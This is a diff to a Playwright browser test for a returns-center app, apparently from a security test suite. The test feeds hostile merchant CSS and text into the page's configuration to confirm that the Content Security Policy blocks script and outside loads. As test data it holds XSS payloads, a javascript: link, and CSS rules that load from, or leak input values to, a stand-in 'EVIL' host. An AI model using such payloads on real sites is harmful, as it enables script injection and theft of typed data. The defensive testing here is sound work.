@@ -1,8 +1,8 @@
 import { createServer, type Server } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { expect, test, type Page, type Request } from '@playwright/test';
-import type { calls, Envelope, ShopSettings } from '@return-center/contract';
-import { present, signedInShopper, walkToCheckStep, type Reply } from './support.js';
+import type { Envelope, ShopSettings } from '@return-center/contract';
+import { present, signedInShopper, walkToCheckStep, withStoreConfig } from './support.js';
 
 /**
  * Issue #9, Chromium checks: merchant content that would run script or load from elsewhere does neither, the page's
@@ -60,10 +60,7 @@ test('hostile merchant CSS and texts run no script and load nothing from other o
   const seen = await watch(page, new URL(present(baseURL, 'baseURL')).origin);
   page.on('dialog', (dialog) => void dialog.dismiss());
   // The configuration as if the server's sanitiser had let everything through: the CSP alone must hold.
-  await page.route('**/go-api/v1/client/getConfig', async (route) => {
-    const response = await route.fetch();
-    const body = (await response.json()) as Reply<typeof calls.getConfig>;
-    const config = body.data;
+  await withStoreConfig(page, (config) => {
     config.custom_css = [
       `@import url(${EVIL}/import.css);`,
       `input[value^="a"] { background-image: url(${EVIL}/key?a) }`,
@@ -79,7 +76,6 @@ test('hostile merchant CSS and texts run no script and load nothing from other o
       url: `javascript:window.pwned='link'`,
     };
     config.text.order_confirm_button_name = `<script>window.pwned='button'</script>Find`;
-    await route.fulfill({ response, json: body });
   });
   await page.goto('/');
   await page.getByRole('tab', { name: 'Order number' }).click();
